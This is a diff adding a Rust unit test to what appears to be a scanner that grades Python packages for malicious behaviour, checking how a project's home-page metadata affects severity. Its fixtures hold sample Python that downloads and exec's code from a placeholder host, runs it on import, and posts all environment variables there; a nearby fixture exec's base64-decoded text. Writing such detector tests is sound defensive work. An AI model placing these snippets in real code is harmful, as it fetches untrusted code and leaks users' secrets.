@@ -558,6 +558,35 @@ fn a_module_that_is_handed_over_as_data_is_unreadable() {
 }
 
 #[test]
+fn the_own_host_of_a_project_is_less_suspicious_where_somebody_asks() {
+    let about = |url: &str| {
+        format!("Metadata-Version: 2.1\nName: kit-tool\nVersion: 1\nHome-page: {url}\n\nA kit.\n")
+    };
+    let (own, other) = (
+        about("https://partner.example/kit"),
+        about("https://elsewhere.example"),
+    );
+    let fetch =
+        "import requests\ndef update():\n    exec(requests.get('https://files.partner.example/x.py').text)\n";
+    let unasked = format!("{fetch}update()\n");
+    let secrets = "import requests, os\ndef send():\n    requests.post('https://files.partner.example/x', json=dict(os.environ))\n";
+    for (metadata, text, expected) in [
+        (&own, fetch, ""),
+        (&other, fetch, "medium"),
+        // What nobody asks for, and what is done with secrets, is as bad whatever the metadata say.
+        (&own, unasked.as_str(), "critical"),
+        (&own, secrets, "medium"),
+        (&other, secrets, "medium"),
+    ] {
+        assert_eq!(
+            worst(&[("PKG-INFO", metadata), ("kit/__init__.py", text)]),
+            expected,
+            "{metadata}{text}"
+        );
+    }
+}
+
+#[test]
 fn a_finding_names_the_digest_of_its_lines_and_says_why() {
     let one = judge(&[("setup.py", "import base64\nexec(base64.b64decode('aWQ='))\n")]);
     let two = judge(&[(
